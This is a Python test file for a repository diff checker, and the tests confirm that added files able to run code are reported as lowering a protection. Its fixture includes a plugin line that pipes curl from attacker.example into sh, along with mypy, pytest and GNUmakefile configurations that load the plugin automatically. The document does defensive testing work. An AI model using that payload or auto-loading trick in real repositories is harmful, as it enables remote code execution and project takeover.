"""Every changed file runs code unless it is of a short list of inert kinds (the records, maps and kept files the
loader reads; pages and images under ``docs_dir``): a Python file added to the data folder and the configurations
a tool reads before the project's own (``mypy.ini`` with a plugin line, ``pytest.ini`` with ``-p``, a
``GNUmakefile`` that includes the ``Makefile``) were listed as plain additions, the comment saying "No change to the
guide's data" and nothing under "Lowers a protection", and ``check`` said ok."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from generator.diff.inputs import runs_code
from generator.diff.report import esc
from tests.conftest import ROOT
from tests.gitrepo import commit
from tests.test_diff import _site_repo, ok, report

TAKEOVER = {
    "data/units_plugin.py": "import os\nos.system('curl https://attacker.example | sh')\n",
    "mypy.ini": "[mypy]\nplugins = data/units_plugin.py\n",
    "pytest.ini": "[pytest]\naddopts = -p data.units_plugin\n",
    "GNUmakefile": "include Makefile\nX := $(shell python data/units_plugin.py)\n",
    "tools.cfg.unknown": "a configuration of a tool nobody here has heard of\n",
}


def test_the_comment_names_every_file_that_can_run_code_as_lowering_a_protection(tmp_path: Path) -> None:
    repo = _site_repo(tmp_path)
    for path, text in TAKEOVER.items():
        (repo / path).write_text(text, encoding="utf-8")
    (repo / "site_src" / "page.md").write_text("# A page\n", encoding="utf-8")
    (repo / "site_src" / "figure.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (repo / "site_src" / "drawing.svg").write_text("<svg/>", encoding="utf-8")
    for head in ("worktree", commit(repo, "a plugin and the configurations that load it")):
        md = ok(repo, "--head", head)
        assert "No change to the guide's data" not in md and "files that run code did" in md, md
        section = md.split("### Lowers a protection")[1].split("###")[0]
        for name in (*TAKEOVER, "site_src/drawing.svg"):
            line = next((line for line in section.splitlines() if f"**{esc(name)}**" in line), "")
            assert "runs code" in line, (name, section)
        assert "check refuses it" in next(line for line in section.splitlines() if "units" in line)
        lowered = {c["name"] for c in report(repo, "--head", head)["site"] if c["lowers"]}
        assert not lowered & {"site_src/page.md", "site_src/figure.png"}, lowered  # pages and images are inert


def test_a_file_is_inert_only_when_it_is_of_a_kind_known_to_be() -> None:
    assert runs_code("data/tables/speed.yml", "data/") == "" and runs_code("data/runs/t/out.json", "data/") == ""
    assert runs_code("data/maps/bench.yml", "data/") == "" and runs_code("data/guide.yml", "data/") == ""
    assert runs_code("site_src/index.md", "data/", "site_src/") == ""
    for path in ("data/units_plugin.py", "data/notes.txt", "data/tables/x.py", "data/maps/x.py", "README.md"):
        assert runs_code(path, "data/").startswith("runs code"), path
    for path in ("mypy.ini", "pytest.ini", "GNUmakefile", "setup.cfg", "x/conftest.py", "site_src/a.svg", "a.toml"):
        assert runs_code(path, "data/", "site_src/").startswith("runs code"), path


def test_check_refuses_a_file_the_guide_does_not_read_in_the_data_folder(tmp_path: Path) -> None:
    repo = _site_repo(tmp_path)
    (repo / "data" / "units_plugin.py").write_text("print('ran')\n", encoding="utf-8")
    (repo / "data" / "options" / "helper.py").write_text("print('ran')\n", encoding="utf-8")
    (repo / "data" / "extra").mkdir()
    done = subprocess.run(
        [sys.executable, "-m", "generator", "check", "--data", str(repo / "data")],
        cwd=ROOT,
        capture_output=True,
        text=True,
    )
    out = done.stdout + done.stderr
    assert done.returncode != 0 and "Traceback" not in out, out
    for name in ("units_plugin.py", "options/helper.py", "extra/"):
        assert f"{name}: not a file the guide reads" in out, out
